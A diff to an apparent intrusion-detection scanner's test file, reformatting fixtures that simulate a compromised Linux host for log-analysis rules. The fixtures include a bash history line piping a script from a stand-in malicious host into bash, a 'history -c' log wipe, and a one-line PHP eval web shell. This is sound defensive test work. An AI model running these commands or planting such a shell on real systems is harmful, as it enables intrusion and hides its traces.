@@ -17,7 +17,9 @@ after(() => {
 });
 
 function logFindings(result: Awaited<ReturnType<typeof scan>>['result']) {
-  return result.findings.filter((f) => f.rule.startsWith('logs/')).map((f) => `${f.severity} ${f.rule} ${f.user ?? '-'} ${f.ip ?? '-'} ${f.path ?? '-'} ${f.time ?? '-'}`);
+  return result.findings
+    .filter((f) => f.rule.startsWith('logs/'))
+    .map((f) => `${f.severity} ${f.rule} ${f.user ?? '-'} ${f.ip ?? '-'} ${f.path ?? '-'} ${f.time ?? '-'}`);
 }
 
 describe('logs family on an offline root', () => {
@@ -25,14 +27,46 @@ describe('logs family on an offline root', () => {
     const root = new FakeRoot().base().write('/etc/timezone', 'Etc/UTC\n');
     roots.push(root);
     const attack = [...repeat(30, (i) => sshd.failed('root', '45.67.89.10', 51000 + i)), sshd.accepted('root', '45.67.89.10')];
-    root.write('/var/log/auth.log.2.gz', zlib.gzipSync(syslogLines(new Date('2026-11-10T08:00:00Z'), [sshd.accepted('root', '198.51.100.7', 'publickey')])), { mtime: new Date('2026-11-12T00:00:00Z') });
+    root.write(
+      '/var/log/auth.log.2.gz',
+      zlib.gzipSync(syslogLines(new Date('2026-11-10T08:00:00Z'), [sshd.accepted('root', '198.51.100.7', 'publickey')])),
+      { mtime: new Date('2026-11-12T00:00:00Z') },
+    );
     root.write('/var/log/auth.log', syslogLines(new Date('2026-11-19T03:00:00Z'), attack), { mtime: new Date('2026-11-19T23:00:00Z') });
-    root.write('/var/log/wtmp', utmpFile([bootRecord('2026-11-01T00:00:00Z'), ...sshSession('root', '198.51.100.7', '2026-11-10T08:00:00Z', '2026-11-10T08:30:00Z'), 'zeroed', 'zeroed', bootRecord('2026-11-19T06:00:00Z')]));
-    root.write('/var/log/btmp', utmpFile(repeat(30, (i) => ({ type: UT.LOGIN_PROCESS, user: 'root', line: 'ssh:notty', host: '45.67.89.10', addr: '45.67.89.10', at: `2026-11-19T03:00:${String(i).padStart(2, '0')}Z` }))));
+    root.write(
+      '/var/log/wtmp',
+      utmpFile([
+        bootRecord('2026-11-01T00:00:00Z'),
+        ...sshSession('root', '198.51.100.7', '2026-11-10T08:00:00Z', '2026-11-10T08:30:00Z'),
+        'zeroed',
+        'zeroed',
+        bootRecord('2026-11-19T06:00:00Z'),
+      ]),
+    );
+    root.write(
+      '/var/log/btmp',
+      utmpFile(
+        repeat(30, (i) => ({
+          type: UT.LOGIN_PROCESS,
+          user: 'root',
+          line: 'ssh:notty',
+          host: '45.67.89.10',
+          addr: '45.67.89.10',
+          at: `2026-11-19T03:00:${String(i).padStart(2, '0')}Z`,
+        })),
+      ),
+    );
     root.write('/var/log/lastlog', lastlogFile([{ uid: 0, at: '2026-11-19T03:00:30Z', host: '45.67.89.10' }]));
-    root.write('/root/.bash_history', 'wget -qO- http://malicious-site.com/m.sh | bash\nhistory -c\n', { mtime: new Date('2026-11-19T03:20:00Z') });
+    root.write('/root/.bash_history', 'wget -qO- http://malicious-site.com/m.sh | bash\nhistory -c\n', {
+      mtime: new Date('2026-11-19T03:20:00Z'),
+    });
     root.write('/var/www/html/uploads/x.php', '<?php @eval($_POST["z0"]); ?>', { mtime: new Date('2026-11-19T03:05:00Z') });
-    root.write('/var/log/nginx/access.log', repeat(25, (i) => accessLine('45.67.89.10', `2026-11-19T03:10:${String(i).padStart(2, '0')}Z`, 'POST', '/uploads/x.php', 200, 'antSword/v2.1')).join(''));
+    root.write(
+      '/var/log/nginx/access.log',
+      repeat(25, (i) =>
+        accessLine('45.67.89.10', `2026-11-19T03:10:${String(i).padStart(2, '0')}Z`, 'POST', '/uploads/x.php', 200, 'antSword/v2.1'),
+      ).join(''),
+    );
 
     const { result } = await scan({ root: root.dir, sampleMs: 0, now: NOW });
     assert.deepEqual(logFindings(result), [
@@ -52,7 +86,12 @@ describe('logs family on an offline root', () => {
   });
 
   it('stays silent on a clean, freshly installed tree', async () => {
-    const root = new FakeRoot().base().write('/var/log/wtmp', '').write('/var/log/btmp', '').write('/var/log/lastlog', '').mkdir('/var/log/journal');
+    const root = new FakeRoot()
+      .base()
+      .write('/var/log/wtmp', '')
+      .write('/var/log/btmp', '')
+      .write('/var/log/lastlog', '')
+      .mkdir('/var/log/journal');
     roots.push(root);
     root.write('/root/.bash_history', 'apt update\nsystemctl status nginx\n').write('/var/www/html/index.html', '<h1>It works</h1>');
     const { result } = await scan({ root: root.dir, sampleMs: 0, now: NOW });
